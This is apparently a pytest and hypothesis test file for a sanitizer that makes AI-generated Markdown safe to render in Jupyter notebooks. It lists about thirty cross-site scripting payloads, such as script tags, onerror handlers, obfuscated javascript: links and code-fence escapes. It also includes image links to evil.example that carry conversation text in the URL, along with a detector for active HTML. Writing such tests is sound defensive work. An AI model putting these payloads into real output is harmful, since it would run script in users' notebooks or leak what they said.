from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from ainet.notebook.markdown import harmless

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<!-- --><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    r"[x](javascript\:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/?q=what-you-said)",
    "![x][y]\n\n[y]: https://evil.example/",
    "<javascript:alert(1)>",
    "```\nclosed\n```\n<script>alert(1)</script>",
    "~~~\nclosed\n~~~\n<script>alert(1)</script>",
    "```\n~~~\n```\n<script>alert(1)</script>",
    "````\n```\n````\n<script>alert(1)</script>",
    "```\n  ```\n<script>alert(1)</script>\n```",
    "```\n````  \n<script>alert(1)</script>\n```",
    "``` a`b\n<script>alert(1)</script>\n```",
    "    ```\n<script>alert(1)</script>\n    ```",
    "`x\n```\n`\n```\n<img src=x onerror=alert(1)>",
    "> ```\n<script>alert(1)</script>\n> ```",
    "- ```\n<script>alert(1)</script>\n  ```",
    '[x]: https://a "\n```\n"\n<script>alert(1)</script>\n```',
    "~~~ ```\n```\n~~~\n<script>alert(1)</script>\n```",
    "$$ a\n```\n$$\n<script>alert(1)</script>",
    "$$ a\n  ```\n$$\n<script>alert(1)</script>\n  ```",
    "  ```\n```\n$a\n```\nb$ <script>alert(1)</script>\n```",
]


class Tags(HTMLParser):
    """Finds what acts in HTML: tags that Markdown has no sign for, addresses, event handlers."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "img"} or any(name.startswith("on") for name, _ in attrs):
            self.active.append(tag)
        self.active += [value for name, value in attrs if name == "href" and not re.match("https?:|#", value)]


def acts(html: str) -> bool:
    tags = Tags()
    tags.feed(html)
    return bool(tags.active)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_model_says_cannot_run_in_a_notebook(text):
    assert not acts(markdown2html_mistune(harmless(text)))


def test_the_attacks_are_real():
    working = [text for text in ATTACKS if acts(markdown2html_mistune(text))]
    assert len(working) > 0.8 * len(ATTACKS)


PIECES = [
    "`",
    "```",
    "~~~",
    "\n",
    " ",
    "    ",
    "> ",
    "- ",
    "x",
    "|",
    "<script>",
    "<img src=x>",
    "$",
    "$$",
    "[x]",
    "(",
    ":",
]


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_no_mixture_of_fences_formulas_and_tags_runs(pieces):
    assert not acts(markdown2html_mistune(harmless("".join(pieces))))


@pytest.mark.parametrize(
    "text",
    [
        "# A heading\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "```python\nif a < b and c & d:\n    print('<b>')\n```",
        "```sh\necho $x <in >out\n```\nand $x < y$",
        "see [the page](https://example.org/?x=1#y) and $x^2$; 1 < 2 & 3 &amp; `a[i]`",
        "````\n```\n<b>\n````",
    ],
)
def test_ordinary_markdown_and_code_stay_as_they_are(text):
    assert harmless(text) == text


@pytest.mark.parametrize("text", [*ATTACKS, "an `vector<int>` here", "```\nnot closed <b>"])
def test_the_text_looks_as_it_was_written(text):
    assert harmless(text).replace("\u200b", "") == text
